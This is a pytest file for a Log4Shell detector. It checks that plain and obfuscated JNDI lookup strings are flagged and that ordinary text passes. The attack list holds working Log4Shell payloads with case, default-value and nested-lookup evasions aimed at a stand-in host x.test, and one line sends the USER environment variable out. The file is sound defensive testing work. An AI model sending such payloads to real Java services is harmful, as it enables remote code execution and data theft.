"""Log4Shell: plain and obfuscated JNDI lookups are resolved and found; other lookups pass."""

from __future__ import annotations

import pytest

from vigil.signatures.detection import Attack
from vigil.signatures.jndi import detect_jndi

ATTACKS = [
    ("${jndi:ldap://x.test/a}", "JNDI lookup"),
    ("${JNDI:rmi://x.test/a}", "JNDI lookup"),
    ("${${lower:j}ndi:ldap://x.test/a}", "JNDI lookup"),
    ("${${upper:j}${upper:n}${lower:d}${lower:i}:dns://x.test}", "JNDI lookup"),
    ("${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", "JNDI lookup"),
    ("${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.test/a}", "JNDI lookup"),
    ("${${date:'j'}${date:'n'}di:ldap://x.test}", "JNDI lookup"),
    ("${j${k8s:k5:-ND}i:ldap://x.test}", "JNDI lookup"),
    ("Mozilla ${jndi:ldap://x.test/${env:USER}} Firefox", "JNDI lookup"),
    ("${${env:HOME}}", "lookup nested in a lookup"),
]

BENIGN = [
    "${HOME}",
    "${price}",
    "cost is $5 {approx}",
    "${env:PATH}",
    "jndi is a Java API",
    "${ jndi",
]


@pytest.mark.parametrize(("value", "reason"), ATTACKS, ids=[a for a, _ in ATTACKS])
def test_lookups_are_resolved_and_found(value: str, reason: str) -> None:
    found = detect_jndi(value)
    assert found is not None, value
    assert found.kind is Attack.JNDI
    assert found.reason == reason


@pytest.mark.parametrize("value", BENIGN)
def test_other_lookups_and_text_pass(value: str) -> None:
    assert detect_jndi(value) is None


def test_resolution_is_bounded() -> None:
    deep = "${" * 5000 + "x" + "}" * 5000
    assert detect_jndi(deep) is not None
